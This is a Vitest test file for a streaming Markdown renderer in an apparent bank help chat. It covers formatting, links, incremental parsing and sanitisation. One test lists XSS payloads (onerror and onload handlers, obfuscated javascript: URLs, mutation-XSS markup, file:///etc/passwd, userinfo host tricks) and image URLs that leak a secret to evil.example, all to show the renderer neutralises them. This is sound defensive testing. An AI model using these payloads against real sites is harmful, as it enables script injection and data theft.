// @vitest-environment happy-dom
import fc from 'fast-check'
import { options, render } from 'preact'
import { act } from 'preact/test-utils'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { Markdown } from '../../src/ui/markdown.tsx'
import { createMarkdownTree, plainText } from '../../src/ui/markdown-tree.ts'
import type { MarkdownNode } from '../../src/ui/markdown-tree.ts'

const base = 'https://bank.example/help/'
let place: HTMLElement

beforeEach(() => {
  // The parser's own assertions go to the console; what they are about is asserted here.
  vi.spyOn(console, 'assert').mockImplementation(() => {})
  place = document.createElement('div')
  document.body.append(place)
})
afterEach(() => {
  render(null, place)
  place.remove()
  vi.restoreAllMocks()
})

const show = (text: string, done = true) => act(() => render(<Markdown text={text} done={done} base={base} />, place))
const inner = () => place.querySelector('.md')?.innerHTML ?? ''
const links = () => [...place.querySelectorAll('a')].map((link) => link.getAttribute('href'))

describe('what it shows', () => {
  test.each([
    ['**bold** and *slanted*', '<p><strong>bold</strong> and <em>slanted</em></p>'],
    ['# A heading', '<p class="heading">A heading</p>'],
    ['one\ntwo', '<p>one<br>two</p>'],
    ['- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
    ['3. c\n4. d', '<ol start="3"><li>c</li><li>d</li></ol>'],
    ['`x < y`', '<p><code>x &lt; y</code></p>'],
    ['```js\na()\n```', '<pre dir="ltr"><code>a()</code></pre>'],
    ['> quoted', '<blockquote><p>quoted</p></blockquote>'],
    ['It costs $5 and then $AUD 7', '<p>It costs $5 and then $AUD 7</p>'],
    ['`$x` and \\$y', '<p><code>$x</code> and $y</p>'],
    ['see [1] there', '<p>see [1] there</p>'],
  ])('%j', (text, html) => {
    show(text)
    expect(inner()).toBe(html)
  })

  test('a table has a head row and cells', () => {
    show('| Fee | Amount |\n|---|---|\n| Card | free |')
    expect([...place.querySelectorAll('th')].map((cell) => cell.textContent?.trim())).toEqual(['Fee', 'Amount'])
    expect([...place.querySelectorAll('td')].map((cell) => cell.textContent?.trim())).toEqual(['Card', 'free'])
  })

  test('links of the page itself stay in the tab, others open a new one and show their host', () => {
    show('[fees](/fees) and [docs](https://docs.example/a) and https://docs.example/b.')
    const [own, other, raw] = place.querySelectorAll('a')
    expect(own?.href).toBe('https://bank.example/fees')
    expect(own?.target).toBe('')
    expect(other?.target).toBe('_blank')
    expect(other?.rel).toBe('noopener noreferrer nofollow ugc')
    expect(place.textContent).toContain('docs (docs.example)')
    expect(raw?.getAttribute('href')).toBe('https://docs.example/b')
    expect(raw?.textContent).toBe('https://docs.example/b')
  })
})

describe('what it never does', () => {
  const secret = 'SECRET'.repeat(60)
  const payloads = [
    '<img src=x onerror=window.__x=1>', '<svg/onload=window.__x=1>', '<iframe srcdoc="<script>1</script>">', '"><script>window.__x=1</script>',
    '<details open ontoggle=window.__x=1>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=1&gt;">',
    '<form id=attributes><input name=nodeName>', '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<style>*{background:url(https://evil.example)}</style>',
    '![a](https://evil.example/?q=SECRET)', '![a][r]\n\n[r]: https://evil.example/?q=SECRET', '<https://evil.example/?q=SECRET>',
    '<link rel=prefetch href=//evil.example>',
    '[a](javascript:alert(1))', '[a](JaVaScRiPt:alert(1))', '[a](java\tscript:alert(1))', '[a](\u0001javascript:alert(1))',
    '[a](data:text/html,<script>1</script>)',
    '[a](vbscript:x)', '[a](blob:https://bank.example/1)', '[a](file:///etc/passwd)', '[a](http://bank.example@evil.example/)',
    `[a](https://evil.example/?q=${secret})`,
    '![](javascript:alert(1))', '[![x](https://evil.example/i.png)](javascript:alert(1))', '[a](  javascript:alert(1))', '[a](<javascript:alert(1)>)',
  ]
  const allowed = 'DIV P STRONG EM S CODE PRE UL OL LI BLOCKQUOTE BR HR A SMALL TABLE TBODY TR TH TD SPAN'.split(' ')

  const check = () => {
    for (const element of place.querySelectorAll('*')) {
      expect(allowed).toContain(element.tagName)
      for (const { name } of element.attributes) expect(['class', 'dir', 'href', 'rel', 'target', 'title', 'start']).toContain(name)
    }
    for (const href of links()) expect(href).toMatch(/^(https?:|mailto:|tel:)/)
  }

  test.each(payloads)('makes nothing of %j but text', (payload) => {
    show(payload)
    check()
    expect((window as { __x?: number }).__x).toBeUndefined()
    expect(links().filter((href) => /@|SECRETSECRET/.test(href ?? ''))).toEqual([])
  })

  test.each(payloads)('nor in single characters of %j', (payload) => {
    for (let end = 1; end <= payload.length; end += 1) show(payload.slice(0, end), false)
    show(payload)
    check()
  })

  test('refused addresses leave their words', () => {
    show('[press](javascript:alert(1)) ![a picture](https://evil.example/p.png)')
    expect(links()).toEqual([])
    expect(place.textContent).toContain('press')
    expect(place.textContent).toContain('a picture')
  })

  test('survives any text and any nesting', () => {
    show('> '.repeat(2000) + 'deep')
    show(`${'* '.repeat(2000)}deep`)
    show(`${'['.repeat(2000)}${'**_'.repeat(1000)}`)
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => {
      show(text)
      check()
    }), { seed: 7, numRuns: 80 })
  })
})

const plain = ({ type, href, start, checked, children }: MarkdownNode): unknown =>
  [type, href, start, checked, children.map((child) => (typeof child === 'string' ? child : plain(child)))]
const pieces = fc.constantFrom(
  '**', '*', '_', '`', '```\n', '# ', '- ', '1. ', '> ', '[a](', 'https://x.example/', ')', '\n', '\n\n', '|', '|---|\n',
  '$', '\\', '![', ']', '<br>', '~~', 'word', ' ', '🦊', '(h', 'é',
)

describe('growing', () => {
  test('any way of cutting a text gives the same tree', () => {
    fc.assert(fc.property(fc.array(pieces, { maxLength: 30 }), fc.array(fc.nat(120), { maxLength: 12 }), (parts, cuts) => {
      const text = parts.join('')
      const whole = createMarkdownTree()
      whole.feed(text)
      whole.end()
      const grown = createMarkdownTree()
      for (const cut of cuts.toSorted((a, b) => a - b)) grown.feed(text.slice(0, cut))
      grown.feed(text)
      grown.end()
      expect(plain(grown.root)).toEqual(plain(whole.root))
    }), { seed: 11, numRuns: 600 })
  })

  test('a growing text gives the same elements as the whole, and keeps those that are finished', () => {
    const text = 'First **paragraph**.\n\n- one\n- two\n\nSee [the fees](/fees).'
    show(text)
    const whole = inner()
    render(null, place)
    show(text.slice(0, 24), false)
    const first = place.querySelector('p')
    for (let end = 25; end < text.length; end += 3) show(text.slice(0, end), false)
    show(text)
    expect(inner()).toBe(whole)
    expect(place.querySelector('p')).toBe(first)
  })

  test('only what is new is parsed', () => {
    const tree = createMarkdownTree()
    tree.feed('One **two** three\n\n')
    const paragraph = tree.root.children[0] as MarkdownNode
    const children = [...paragraph.children]
    tree.feed('One **two** three\n\nFour')
    expect(tree.root.children[0]).toBe(paragraph)
    expect(paragraph.children).toEqual(children)
    expect(tree.feed('Another text')).toBe(false)
  })

  test('a delta costs the paragraph that it is in, however many there are', () => {
    const long = Array.from({ length: 100 }, (_, index) => `Paragraph **${index}**\n\n`).join('')
    show(`${long}The last`, false)
    let diffed = 0
    const { diffed: before } = options
    options.diffed = (vnode) => {
      diffed += 1
      before?.(vnode)
    }
    show(`${long}The last one`, false)
    options.diffed = before ?? (() => {})
    expect(place.querySelectorAll('p')).toHaveLength(101)
    // One for each paragraph's skipped component, and a few inside the last.
    expect(diffed).toBeLessThan(120)
  })

  test('half of a character is never shown', () => {
    const tree = createMarkdownTree()
    const text = 'a 🦊 runs'
    for (let end = 1; end <= text.length; end += 1) {
      tree.feed(text.slice(0, end))
      expect(JSON.stringify(plain(tree.root))).not.toMatch(/\\ud8/i)
    }
  })

  test('a text that does not continue the last one replaces it', () => {
    show('The first answer', false)
    show('Another **attempt**', false)
    expect(place.textContent).toBe('Another attempt')
    show('Another **attempt**')
    show('A third')
    expect(place.textContent).toBe('A third')
  })
})

test('plain text is the words without their marks', () => {
  expect(plainText('# Fees\n\n- **Card**: free\n- [Abroad](/x): $4.50')).toBe('Fees\nCard: free\nAbroad: $4.50')
})
